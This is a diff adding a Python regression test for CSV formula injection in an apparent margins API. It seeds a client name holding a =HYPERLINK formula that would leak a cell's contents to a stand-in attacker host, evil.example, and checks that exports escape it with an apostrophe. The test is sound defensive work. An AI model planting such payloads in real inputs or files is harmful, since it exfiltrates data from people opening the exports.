@@ -157,3 +157,26 @@ def test_every_list_downloads_as_csv_from_a_plain_link(
     clients = http.get("/v1/margins/clients", params={"as_of": "2026-10-05"},
                        headers={**h, "Accept": "text/csv"})  # fmt: skip
     assert next(csv.DictReader(io.StringIO(clients.text)))["client_id"] == seeded["cl2"]
+
+
+def test_a_name_a_spreadsheet_would_run_is_downloaded_as_text_and_money_as_numbers(
+    http: httpx.Client, api_tokens: Tokens
+) -> None:
+    """Issue #21: `=HYPERLINK(...)` as a client name went as it was into every CSV."""
+    cid, aid, client = unique("C"), unique("A"), unique("CL")
+    story = _story(cid, aid, api_tokens.am_id, client, "32.00", "37.50")  # a loss: -36.00 a week
+    story[0]["client_name"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    for e in story:
+        assert post(http, api_tokens.am, e).status_code == 201
+    h = auth(api_tokens.finance)
+
+    r = http.get(f"/v1/margins/clients/{client}", params={"format": "csv", "as_of": "2026-10-05"},
+                 headers=h)  # fmt: skip
+
+    [row] = list(csv.DictReader(io.StringIO(r.text)))
+    assert row["client_name"] == "'" + story[0]["client_name"]
+    assert row["weekly_gross_profit"] == "-36.00"
+    # The contract's assignments: a flag reads as in JSON.
+    r = http.get(f"/v1/margins/contracts/{cid}", params={"format": "csv"}, headers=h)
+    [assignment] = list(csv.DictReader(io.StringIO(r.text)))
+    assert (assignment["at_risk"], assignment["client_name"][:2]) == ("false", "'=")
